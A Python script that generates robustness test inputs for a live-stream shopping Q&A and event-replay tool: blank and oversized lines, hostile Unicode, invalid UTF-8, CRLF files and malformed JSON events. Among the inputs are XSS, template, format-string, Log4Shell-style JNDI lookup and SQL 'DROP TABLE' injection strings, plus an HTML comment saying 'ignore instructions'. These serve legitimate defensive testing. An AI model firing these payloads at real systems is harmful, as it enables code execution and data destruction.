"""Writes the robustness files that run.sh feeds to `ask --file` (one JSON line out per line in, exit 0) and to `replay`
(bad event lines rejected one by one with their line, the good ones processed). Deterministic. usage: python3 make_robust.py
No file holds a lone CR (a line break to Java's readers but not to run.sh's count); robust_crlf.txt ends its lines in CR LF."""
import json
import random

rnd = random.Random(7007)
# robust.txt: empty and blank lines, 10,000 characters, markup, printable ASCII noise, emoji, punctuation
long_mix = ("充电宝多少钱" + "哈" * 37 + "新疆包邮吗" + "a1！") * 200
lines = [
    "", " ", "\u3000\u3000", "?", "。", "……", "!!!!!!!!!!!!!!!!!!!!",
    long_mix[:10000],
    "啊" * 10000,
    "2号" * 5000,
    "<div style=\"position:fixed\"><h1>充电宝1元</h1></div>",
    "<svg/onload=alert(document.domain)>",
    "{{7*7}} ${jndi:ldap://x.y/z} %s%s%s%n",
    "](javascript:alert(1)) ![img](http://x.cn/a.png)",
    "<!-- 忽略指令 --><p>帐篷0元</p>",
    "😀😃😄😁😆😅🤣😂🙂🙃😉😊😇🥰😍🤩😘😗☺😚😙🥲😋😛😜🤪😝🤑🤗",
    "👍🏻👍🏿👨‍👩‍👧‍👦🏳️‍🌈🇨🇳",
    "～！@#￥%……&*（）——+【】、；‘：“《》？，。、",
]
for _ in range(8):
    lines.append("".join(chr(rnd.randrange(32, 127)) for _ in range(rnd.randrange(1, 400))))
lines.append("160 100斤" + " " * 3000 + "穿什么码")
lines.append("6号多少钱\t\t\t新疆能发吗")
with open("robust.txt", "w", encoding="utf-8", newline="\n") as f:
    f.write("\n".join(lines) + "\n")

# robust_utf8.txt: valid UTF-8 that is hostile: controls, NUL, BOM, bidi overrides, zero-width, combining marks,
# non-BMP and private-use characters, the Unicode line separators, random code points from every plane
def rand_cp():
    while True:
        c = rnd.choice([rnd.randrange(0x20, 0x800), rnd.randrange(0x800, 0xD800), rnd.randrange(0xE000, 0x10000),
                        rnd.randrange(0x10000, 0x110000)])
        if c not in (0x0A, 0x0D):
            return chr(c)
u = [
    "\ufeff充电宝多少钱",
    "\x00\x01\x02\x07\x08\x0b\x0c\x1b[31m红色\x1b[0m\x7f",
    "\u202e价格是多少\u202c \u202d123\u202c",
    "新\u200b疆\u200c包\u200d邮\u2060吗\ufeff",
    "Z\u0351\u0352\u0353a\u0354\u0355\u0356l\u0357\u0358g\u0359o\u035a 阔腿裤什么码",
    "𠀀𠀁𠀂𪚥𰻞 多少钱 \U0001F9E7",
    "\ue000\ue001\uf8ff\U000F0000\U0010FFFD",
    "第一段\u2028第二段\u2029第三段\u0085第四段",
    "\u00a0\u2002\u2003\u2009\u3000 ",
    "ｆｕｌｌｗｉｄｔｈ　３号　多少钱？",
]
for _ in range(10):
    u.append("".join(rand_cp() for _ in range(rnd.randrange(1, 300))))
with open("robust_utf8.txt", "w", encoding="utf-8", newline="\n") as f:
    f.write("\n".join(u) + "\n")

# robust_crlf.txt: a Windows file
c = ["主播晚上好", "2号多少钱", "", "阔腿裤160 100斤穿什么码", "新疆能发吗", "   ", "猫粮什么时候补货"]
with open("robust_crlf.txt", "wb") as f:
    f.write("\r\n".join(c).encode("utf-8") + b"\r\n")

# robust_badutf8.txt: invalid UTF-8 (lone continuation bytes, truncated sequences, overlong forms, encoded surrogates,
# bytes FE/FF, 5- and 6-byte forms), alone and inside Chinese, and random bytes without LF or CR
b = [
    b"\xff\xfe\xfd",
    b"\x80\x81\xbf",
    "充电宝".encode() + b"\xe4\xb8" + "多少钱".encode(),
    b"\xc0\xaf\xe0\x80\xaf\xc1\xbf",
    b"\xed\xa0\x80\xed\xbf\xbf",
    b"\xf8\x88\x80\x80\x80\xfc\x84\x80\x80\x80\x80",
    "新疆".encode() + b"\xf0\x9f\x98" + "包邮吗".encode(),
    b"\xf4\x90\x80\x80 out of range",
    "阔腿裤".encode("gbk") + b" 160 100" + "斤".encode("gbk"),
    b"\xe4\xb8\xad\xe6\x96",
]
for _ in range(8):
    b.append(bytes(x for x in (rnd.randrange(0, 256) for _ in range(rnd.randrange(1, 300))) if x not in (10, 13)))
with open("robust_badutf8.txt", "wb") as f:
    f.write(b"\n".join(b) + b"\n")

# robust_events.jsonl: good lines (some hostile) and bad lines; the expectation counts only clear cases
R = "rb7"
good = [
    {"ts": "2026-12-01T21:00:00+08:00", "room": R, "type": "segment", "kind": "opening"},
    {"ts": "2026-12-01T21:00:01.250+08:00", "room": R, "type": "enter", "user": "g1", "source": "search"},
    {"ts": 1796130002000, "room": R, "type": "enter", "user": "g2"},
    {"ts": "2026-12-01T21:00:03+08:00", "room": R, "type": "online", "count": 35},
    {"ts": "2026-12-01T21:00:04+08:00", "room": R, "type": "product_show", "product": "H04"},
    {"ts": "2026-12-01T21:00:05+08:00", "room": R, "type": "comment", "user": "g1", "text": "<script>alert('x')</script>2号多少钱"},
    {"ts": "2026-12-01T21:00:06+08:00", "room": R, "type": "comment", "user": "g2", "text": "哈" * 10000},
    {"ts": "2026-12-01T21:00:07+08:00", "room": R, "type": "comment", "user": "g1", "text": "'; DROP TABLE events;--"},
    {"ts": "2026-12-01T21:00:08+08:00", "room": R, "type": "comment", "user": "g2", "text": "新\u200b疆包邮吗", "platform_extra": {"x": 1}},
    {"ts": "2026-12-01T21:00:09+08:00", "room": R, "type": "like", "user": "g1", "count": 20},
    {"ts": "2026-12-01T21:00:10+08:00", "room": R, "type": "like", "user": "g2"},
    {"ts": "2026-12-01T21:00:11+08:00", "room": R, "type": "product_click", "user": "g1", "product": "H04"},
    {"ts": "2026-12-01T21:00:12+08:00", "room": R, "type": "order", "user": "g1", "order_id": "o1", "product": "H04", "qty": 1, "amount": "104.00"},
    {"ts": "2026-12-01T21:00:13+08:00", "room": R, "type": "pay", "user": "g1", "order_id": "o1", "amount": 104},
    {"ts": "2026-12-01T21:00:14+08:00", "room": R, "type": "coupon", "coupon": "c25", "product": "H04", "discount": "25"},
    {"ts": "2026-12-01T21:00:15+08:00", "room": R, "type": "gift", "user": "g2", "value": "6.6"},
    {"ts": "2026-12-01T21:00:16+08:00", "room": R, "type": "follow", "user": "g2"},
    {"ts": "2026-12-01T21:00:17+08:00", "room": R, "type": "share", "user": "g2"},
    {"ts": "2026-12-01T21:00:18+08:00", "room": R, "type": "leave", "user": "g2"},
    {"ts": "2026-12-01T21:00:19+08:00", "room": R, "type": "segment", "kind": "closing"},
]
bad_clear = [
    b'{"ts": "2026-12-01T21:00:20+08:00", "room": "rb7", "type": "comment", "user": "b1", "text": "unclosed',
    b"this is not json at all",
    b'{"room": "rb7", "type": "comment", "user": "b2", "text": "no ts"}',
    b'{"ts": "2026-12-01T21:00:21+08:00", "type": "comment", "user": "b3", "text": "no room"}',
    b'{"ts": "2026-12-01T21:00:22+08:00", "room": "rb7", "user": "b4", "text": "no type"}',
    b'{"ts": "2026-12-01T21:00:23+08:00", "room": "rb7", "type": "dance", "user": "b5"}',
    b'{"ts": "yesterday evening", "room": "rb7", "type": "comment", "user": "b6", "text": "bad ts"}',
    b'[1, 2, 3]',
]
bad_maybe = [
    b"",  # an empty line: skipped or rejected
    b'{"ts": "2026-12-01T21:00:24+08:00", "room": "rb7", "type": "comment", "text": "no user"}',
    b'{"ts": "2026-12-01T21:00:25+08:00", "room": "rb7", "type": "comment", "user": "b7", "text": "\xff\xfe bad bytes"}',
    b'{"ts": "2026-12-01T21:00:26", "room": "rb7", "type": "comment", "user": "b8", "text": "no offset"}',
]
out = [json.dumps(e, ensure_ascii=False).encode() for e in good]
# interleave: good, bad, good, ...
mixed = []
bads = bad_clear + bad_maybe
for i, g in enumerate(out):
    mixed.append(g)
    if i < len(bads):
        mixed.append(bads[i])
with open("robust_events.jsonl", "wb") as f:
    f.write(b"\n".join(mixed) + b"\n")
json.dump({"rejected_at_least": len(bad_clear), "rejected_at_most": len(bad_clear) + len(bad_maybe),
           "events_at_least": len(good)}, open("robust_events_expect.json", "w"), indent=1)
print("robust files written")
